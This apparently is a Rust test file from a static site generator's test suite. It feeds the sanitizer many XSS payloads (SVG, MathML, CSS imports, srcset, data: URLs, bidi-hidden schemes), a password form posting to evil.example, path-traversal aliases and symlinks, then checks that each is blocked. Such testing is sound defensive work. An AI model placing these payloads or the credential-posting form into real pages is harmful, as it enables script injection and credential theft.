//! Script injection, the seventeenth hunt: payload classes no earlier round tried — SVG
//! `<use>` of another document, MathML links, CSS that loads (`@import`, `url()`) in an
//! author's `style`, `<base>` and `<form>` to another host, `srcset` and `poster`
//! addresses, `<object>`/`<embed>` of a script address, `data:` downloads, bidi and
//! zero-width characters hiding a scheme, quotes in a Markdown link's title, heading
//! attributes, reference links, footnote labels — and names that would leave the site's
//! root (`..`, `%2e%2e`, a drive letter, NUL) or links out of it.

mod common;

use common::Site;

/// Each would run a script, load a document or a style from another host, post a form
/// elsewhere or move the page's links, were the sanitizer to let it through.
const PAYLOADS: &[&str] = &[
    "<svg><use href=\"data:image/svg+xml,&lt;svg id='x' xmlns='http://www.w3.org/2000/svg'&gt;&lt;image href='1' onerror='alert(1)'/&gt;&lt;/svg&gt;#x\"></use></svg>",
    "<svg><use xlink:href=\"https://evil.example/sprite.svg#a\"></use><a href=\"javascript:alert(1)\"><text y=\"9\">图</text></a></svg>",
    "<math href=\"javascript:alert(1)\"><mi>公式</mi></math><math><maction actiontype=\"statusline\" xlink:href=\"javascript:alert(1)\"><mi>m</mi></maction></math>",
    "<p style=\"background:url(javascript:alert(1))\">背景</p><p style=\"@import 'https://evil.example/x.css'; color: red\">导入</p>",
    "<div style=\"background-image: url('https://evil.example/track.png?c=' )\">追踪</div><span style=\"behavior: url(#default#x); -moz-binding: url(https://evil.example/x.xml#b)\">绑定</span>",
    "<base href=\"https://evil.example/\"><a href=\"相对/\">相对链接</a>",
    "<form action=\"https://evil.example/steal\" method=\"post\"><input name=\"密码\" type=\"password\"><button type=\"submit\">登录</button></form>",
    "<img srcset=\"javascript:alert(1) 1x, https://evil.example/x.png 2x\" alt=\"图\"><picture><source srcset=\"javascript:alert(1)\"><img src=\"x.png\" alt=\"图\"></picture>",
    "<object data=\"javascript:alert(1)\"></object><embed src=\"javascript:alert(1)\"><embed src=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
    "<a download=\"报告.html\" href=\"data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;\">下载报告</a>",
    "<video poster=\"javascript:alert(1)\" src=\"x.mp4\"><track src=\"javascript:alert(1)\"></video><input type=\"image\" src=\"x\" formaction=\"javascript:alert(1)\">",
    "[标题引号](https://example.com/ \"x\\\" onmouseover=\\\"alert(1)\") ![图](https://example.com/x.png 'a\" onerror=\"alert(1)') [括号](https://example.com/ (\" autofocus onfocus=\"alert(1)))",
    "## 标题属性 {#main onclick=alert(1) .x style=\"x:expression(alert(1))\"}\n\n段落[^\"><img src=x onerror=alert(1)>]\n\n[^\"><img src=x onerror=alert(1)>]: 脚注",
    "<svg><set attributeName=\"href\" to=\"javascript:alert(1)\"/><animate attributeName=\"xlink:href\" values=\"javascript:alert(1)\"/><a><text y=\"9\">动画</text></a></svg>",
    "<a href=\"https://example.com/\" ping=\"https://evil.example/ping\" target=\"_blank\" rel=\"opener\">新窗口</a><link rel=\"stylesheet\" href=\"https://evil.example/x.css\"><style>@import url(https://evil.example/y.css);</style>",
];

/// Markdown links whose address is a script, however spelt: a bidi override or a
/// zero-width character in the text or the scheme, a reference definition, an autolink.
/// The build refuses each at the link.
const REFUSED: &[&str] = &[
    "[\u{202e}moc.elpmaxe.amp//:sptth\u{202c}](javascript:alert(1)) [java\u{200b}script 点](java\u{200b}script:alert(1)) [零宽](&#x6a;ava\u{feff}script:alert(1))",
    "[引用][r] [另一个][s]\n\n[r]: javascript:alert(1)\n[s]: <javascript:alert(1)> \"t\\\" onclick=\\\"alert(1)\"",
    "<javascript:alert(1)> <vbscript:alert(1)> <data:text/html,<script>alert(1)</script>>",
];

#[test]
fn markdown_links_to_a_script_however_spelt_are_refused() {
    for (n, payload) in REFUSED.iter().enumerate() {
        let site = Site::fixture("basic");
        let rel = format!("content/lessons/拒绝-{n}.md");
        site.write(&rel, lesson(n, payload));
        let m = site.build_err();
        assert!(
            m.lines()
                .any(|l| l.starts_with("error:") && l.contains(&rel) && l.contains("unsafe link")),
            "{payload}: {m}"
        );
    }
}

/// A lesson of project `erp` holding payload `n` in its summary and body, raw and in a
/// list.
fn lesson(n: usize, payload: &str) -> String {
    format!(
        "---\ntitle: 第十七轮 {n}\ndate: 2024-04-{day:02}\nproject: erp\nphase: execution\n\
         impact: negative\nsummary: {quoted}\n---\n\n前文。\n\n{payload}\n\n- 列表 {payload}\n",
        day = n % 28 + 1,
        quoted = common::hostile::quoted(payload),
    )
}

#[test]
fn the_seventeenth_rounds_payloads_run_nothing_in_chromium() {
    let site = Site::fixture("basic");
    for (n, payload) in PAYLOADS.iter().enumerate() {
        site.write(&format!("content/lessons/十七-{n}.md"), lesson(n, payload));
    }
    common::hostile::assert_no_script_runs(&site);
}

/// What runs no script can still take the reader elsewhere: a form posting to another
/// host, a `<base>` moving every relative link, a style or document loaded from one. No
/// attribute of any page names the payloads' host or a script address, and no page
/// holds the elements that would.
#[test]
fn no_page_loads_posts_or_links_to_another_host_from_an_authors_markup() {
    let site = Site::fixture("basic");
    for (n, payload) in PAYLOADS.iter().enumerate() {
        site.write(&format!("content/lessons/十七-{n}.md"), lesson(n, payload));
    }
    site.build_ok();
    let public = site.public();
    let mut found = Vec::new();
    for page in common::html_pages(&public) {
        let html = std::fs::read_to_string(public.join(&page)).unwrap();
        let main = html
            .split_once("<main")
            .and_then(|(_, rest)| rest.split_once("</main>"))
            .map_or("", |(main, _)| main);
        for tag in main.split('<').skip(1) {
            let tag = tag.split('>').next().unwrap_or("");
            let lower = tag.to_lowercase();
            let name = lower.split_whitespace().next().unwrap_or("");
            // The theme's own search and filter forms stand in some pages' `<main>`:
            // a form is told by where it posts.
            let bad_element = [
                "base", "object", "embed", "use", "link", "style", "math", "set", "animate",
                "source", "track", "video",
            ]
            .contains(&name);
            let bad_value = lower.contains("evil.example")
                || lower.contains("javascript:")
                || lower.contains("@import")
                || lower.contains("url(")
                || lower.contains("download")
                || lower.contains("srcset")
                || lower.contains("ping=")
                || lower.contains("data:text");
            if bad_element || bad_value {
                found.push(format!("{page}: <{tag}>"));
            }
        }
    }
    assert!(found.is_empty(), "{found:#?}");
}

/// Link text that hides where it leads behind bidi or zero-width characters is told of
/// at the link, as other text that shows otherwise than written is.
#[test]
fn link_text_hiding_its_address_behind_bidi_characters_is_warned() {
    let site = Site::fixture("basic");
    site.write(
        "content/reports/双向.md",
        "---\ntitle: 双向文字\ndate: 2024-05-01\n---\n\n\
         请看 [\u{202e}moc.elpmaxe.amp//:sptth\u{202c}](https://evil.example/) 的说明。\n",
    );
    let warnings = site.warnings();
    assert!(
        warnings
            .iter()
            .any(|w| w.contains("content/reports/双向.md:6:")),
        "{warnings:#?}"
    );
}

/// Names and aliases that would leave the site's root, spelt as a file system or a URL
/// would take them, write nothing outside the output folder; each is refused, or kept
/// inside the site.
#[test]
fn names_and_aliases_that_would_leave_the_root_write_nothing_outside() {
    let site = Site::fixture("basic");
    for (n, alias) in [
        "../../逃逸/",
        "%2e%2e/%2e%2e/逃逸/",
        "%2E%2E%2F%2E%2E%2F逃逸/",
        "..\\\\..\\\\逃逸\\\\",
        "C:\\\\逃逸\\\\",
        "C:/逃逸/",
        "/旧\\u0000地址/",
        "//evil.example/逃逸/",
    ]
    .iter()
    .enumerate()
    {
        site.write(
            &format!("content/reports/别名-{n}.md"),
            format!(
                "---\ntitle: 别名 {n}\ndate: 2024-05-01\naliases: [\"{alias}\"]\n---\n\n正文。\n"
            ),
        );
    }
    for name in ["%2e%2e.md", "C:盘.md", "..两点.md", "%2E%2E/下一层.md"] {
        site.write(
            &format!("content/reports/{name}"),
            "---\ntitle: 名字\ndate: 2024-05-01\n---\n\n正文。\n",
        );
    }
    let result = site.build();
    let outside: Vec<String> = walk(site.root())
        .into_iter()
        .filter(|p| !p.starts_with("public/") && !p.starts_with("content/"))
        .filter(|p| p.contains("逃逸") || p.contains("下一层") || p.contains("别名"))
        .collect();
    // `../../逃逸/` from public/ would land beside the site's folder, or above it.
    for above in site.root().ancestors().skip(1).take(2) {
        assert!(!above.join("逃逸").exists(), "{}", above.display());
    }
    assert!(
        outside.is_empty(),
        "{outside:?} ({:?})",
        result.as_ref().err().map(common::messages)
    );
    if result.is_ok() {
        let public: Vec<String> = walk(&site.public());
        assert!(
            !public
                .iter()
                .any(|p| p.split('/').any(|part| part == ".." || part.contains(':'))),
            "{public:#?}"
        );
    }
}

/// Every file under `dir`, relative, with `/`.
fn walk(dir: &std::path::Path) -> Vec<String> {
    let mut out = Vec::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        for entry in std::fs::read_dir(&d).unwrap() {
            let path = entry.unwrap().path();
            if path.is_dir() {
                stack.push(path);
            } else {
                out.push(
                    path.strip_prefix(dir)
                        .unwrap()
                        .to_string_lossy()
                        .replace('\\', "/"),
                );
            }
        }
    }
    out
}

/// A page, an attachment or a folder under content/ that is a link out of the site is
/// refused, and what it points to is published nowhere.
#[test]
fn links_out_of_the_site_are_refused_and_publish_nothing() {
    let outside = tempfile::tempdir().unwrap();
    std::fs::write(
        outside.path().join("机密.md"),
        "---\ntitle: 机密\n---\n\n口令 绝密内容\n",
    )
    .unwrap();
    std::fs::write(outside.path().join("机密.txt"), "绝密内容\n").unwrap();
    let site = Site::fixture("basic");
    let link = |target: &std::path::Path, rel: &str| {
        std::os::unix::fs::symlink(target, site.root().join(rel)).unwrap();
    };
    link(&outside.path().join("机密.md"), "content/reports/外部.md");
    link(&outside.path().join("机密.txt"), "content/reports/外部.txt");
    link(outside.path(), "content/reports/外部目录");
    let m = site.build_err();
    for rel in [
        "content/reports/外部.md",
        "content/reports/外部.txt",
        "content/reports/外部目录",
    ] {
        assert!(m.contains(rel), "{rel} not refused: {m}");
    }
}

/// A site's template: a handler after a comparison inside a Tera tag, and `| safe` over
/// an author's title and front matter field, beside the body and a chart's drawing,
/// which the build made safe.
const TEMPLATE: &str = "{% extends \"base.html\" %}\n\
{% block content %}<h1>{{ page.title | safe }}</h1>\n\
<div {% if page.word_count > 100 %}onclick=\"展开()\"{% endif %}>长文</div>\n\
<p class=\"根因\">{{ page.meta.root_cause | default(value=\"\") | safe }}</p>\n\
{{ page.content | safe }}\n\
{% endblock content %}\n";

#[test]
fn a_handler_after_a_comparison_and_safe_over_an_authors_text_are_warned() {
    let site = Site::fixture("basic");
    site.write("templates/lesson.html", TEMPLATE);
    let warnings = site.warnings();
    let ours: Vec<&String> = warnings
        .iter()
        .filter(|w| w.contains("templates/lesson.html"))
        .collect();
    let at = |place: &str, words: &str| {
        assert!(
            ours.iter().any(
                |w| w.contains(&format!("templates/lesson.html:{place}:")) && w.contains(words)
            ),
            "no warning at {place} saying {words}:\n{ours:#?}"
        );
    };
    at("2:27", "`page.title | safe`");
    at("3:36", "`onclick`");
    at("4:18", "`page.meta.root_cause | safe`");
    assert_eq!(ours.len(), 3, "{ours:#?}");
    // Trusted, the site is not warned.
    let toml = std::fs::read_to_string(site.root().join("site.toml")).unwrap();
    site.write("site.toml", format!("{toml}trust_html = true\n"));
    let warnings = site.warnings();
    assert!(
        !warnings.iter().any(|w| w.contains("templates/lesson.html")),
        "{warnings:#?}"
    );
}
